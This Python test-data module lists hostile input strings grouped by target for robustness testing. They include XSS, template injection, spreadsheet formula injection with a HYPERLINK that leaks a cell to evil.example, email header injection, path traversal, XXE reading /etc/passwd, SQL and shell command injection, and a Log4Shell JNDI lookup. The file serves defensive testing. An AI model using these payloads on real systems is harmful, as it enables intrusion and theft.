"""Texts that break careless programs, by what they are aimed at. Each was written for this project."""

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "</textarea><script>alert(2)</script>",
    "</title><base href=//evil.example/>",
    "</style></blockquote></main></body>",
    "<!-- never closed",
    "--><iframe src=javascript:alert(3)></iframe>",
    "]]><![CDATA[<b>",
    "<plaintext>",
    '" autofocus onfocus="alert(4)',
    "' onmouseover='alert(5)",
    "` style=`background:url(//evil.example)",
    "&lt;script&gt;alert(6)&lt;/script&gt;",
    "&#60;b onclick&#61;alert(7)&#62;",
    "&amp;lt;&quot;&#x27;&NotEqualTilde;&nbsp",
    "<a href=https://evil.example/>tap here</a>",
    "<form action=//evil.example><input name=score>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<scr\x00ipt>alert(8)</scr\x00ipt>",
    "\uff1cscript\uff1ealert(9)\uff1c/script\uff1e",
    "<b>bold <i>both</b> only</i>",
    "<table><tr><td>",
    "javascript:alert(10)",
    "data:text/html,<script>alert(11)</script>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
)

TEMPLATES = (
    "{{7*7}}",
    "{% for x in ().__class__.__bases__ %}{{x}}{% endfor %}",
    "{% raw %}",
    "{# a comment #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{practice} {first_name} {staff}",
    "{practice.__class__.__init__.__globals__}",
    "{0} {} {:>99999999}",
    "}{",
    "{{",
    "%s %d %n %(practice)s %",
    "\\1 \\g<0> \\",
)

FORMULAS = (
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    '=HYPERLINK("https://evil.example/?x="&A1,"tap")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    '"=1+1"',
    'a","=1+1',
    "+1 518 555 0100",
    "-",
)

HEADERS = (
    "Ada\r\nBcc: eve@evil.example",
    "Ada\nSubject: another",
    "Ada\rReply-To: eve@evil.example",
    "Ada\u2028Bcc: eve@evil.example",
    "Ada\u2029Bcc: eve@evil.example",
    "Ada\x85Bcc: eve@evil.example",
    "Ada\x0b\x0c\x1c\x1d\x1e\x1fBcc: eve@evil.example",
    "Ada%0d%0aBcc:%20eve@evil.example",
    "=?utf-8?q?Ada=0d=0aBcc=3a_eve=40evil=2eexample?=",
    "=?utf-8?b?QmNjOiBldmVAZXZpbC5leGFtcGxl?=",
    "Ada <eve@evil.example>",
    "Ada, eve@evil.example",
    'Ada" <eve@evil.example>, "',
    "Ada (a comment; eve@evil.example)",
    "Ada: eve@evil.example;",
    "\r\n\r\n<html>a body of its own",
    "ends with a backslash \\",
)

WRITING = (
    "\u202egnirts a si siht",
    "\u2066\u2067\u2068 and never closed",
    "\u200fright to left\u200e",
    "\u061cmark",
    "z\u0335\u0322\u0327\u0337a\u0321\u0326\u0335l\u0336\u0321g\u0338\u0327o\u0334",
    "zero\u200bwidth\u200cnon\u200djoiner\ufeff",
    "soft\u00adhyphen",
    "\U000e0041\U000e0042 tags",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 \U0001f44d\U0001f3ff \U0001f1fa\U0001f1f8",
    "\ufdfd\ufdfa",
    "\ufffd\ufffe\uffff\U0010ffff private \ue000",
    "\u0130stanbul \u0131\u0131 \u01c5 \ufb01 \u00df \u1e9e",
    "Jos\u00e9 Jose\u0301 \u00c5\u212b",
    "O'Brien d\u2019Arc \u02bbOkina",
    "\u674e\u5c0f\u9f99",
    "\u0645\u062d\u0645\u062f \u05e9\u05dc\u05d5\u05dd",
    "\u0939\u093f\u0928\u094d\u0926\u0940 \u0e44\u0e17\u0e22",
    "\u00a0\u3000\u2003 wide \u1680 spaces",
    "\u2800\u3164\uffa0",
)

CONTROLS = (
    "a\x00b",
    "\x00",
    "\x01\x02\x03\x04\x05\x06\x07\x08",
    "\x1b[31mred\x1b]0;title\x07",
    "\x1a end of file",
    "\x7f\x80\x9f",
    "line\none\r\ntwo\rthree",
    "tab\tand\x0bvertical",
)

NUMBERS = (
    "NULL",
    "None",
    "undefined",
    "true",
    "NaN",
    "-Infinity",
    "1e309",
    "0x5",
    "1.23457E+11",
    "\uff11\uff10",
    "\u0663\u0664",
    "\u216b \u00bd \u00b2",
    "-0",
    "2147483648",
    "99999999999999999999999999999999",
    "1,000.00",
    "007",
)

PLACES = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    "/",
    "//evil.example",
    "///evil.example/%2e%2e",
    "/\\evil.example",
    "https://evil.example/",
    "https:evil.example",
    "file:///etc/passwd",
    "mailto:eve@evil.example",
    "?a=1&b=2#c",
    "a/b%2Fc",
    "%",
    "%zz%00%ff",
    "con.txt:stream",
    "~root",
)

QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE Patients; --",
    '"; cat /etc/passwd #',
    "$(touch /tmp/evil) `id` | cat && true",
    '{"$gt": ""}',
    '{"S": "practice"}',
    "*) (uid=*))(|(uid=*",
    "practice#",
    "case#1",
    "run#send_survey",
    "clinic#north",
    "${jndi:ldap://evil.example/a}",
    '"}\n{"level":"ERROR","message":"forged"}',
    "__proto__",
    "constructor.prototype",
)

LONG = (
    "x" * 200,
    "word " * 39 + "word",
    "\u00e9" * 200,
    "\U0001f4a9" * 100,
    "a\u0300" * 100,
)

BLANK = ("", " ", "\u3000", "\u200b", "\u202c")

ALL = (
    *MARKUP,
    *TEMPLATES,
    *FORMULAS,
    *HEADERS,
    *WRITING,
    *CONTROLS,
    *NUMBERS,
    *PLACES,
    *QUERIES,
    *LONG,
    *BLANK,
)
"""Every one of them."""

SCORES = (
    *("\uff11\uff10", "\u0665", "\u00b2", "\u2468", "+5", "-1", "-0", "00", "05", "5.0", "5,0", "1e1", "0x5", "0b1"),
    *("11", "100", "1 0", "1_0", "5\x00", "\x005", "5\n5", "5\t5", "\u200b5", "five", "true", "NaN", "null"),
    *("[]", "[5]", "{}", "5;6", "5,6", "5&6", "%35", "9" * 5000, "'5'", '"5"', "5 OR 1=1", "<b>5</b>"),
)
"""What is no score."""

HARMLESS = "Harmless"
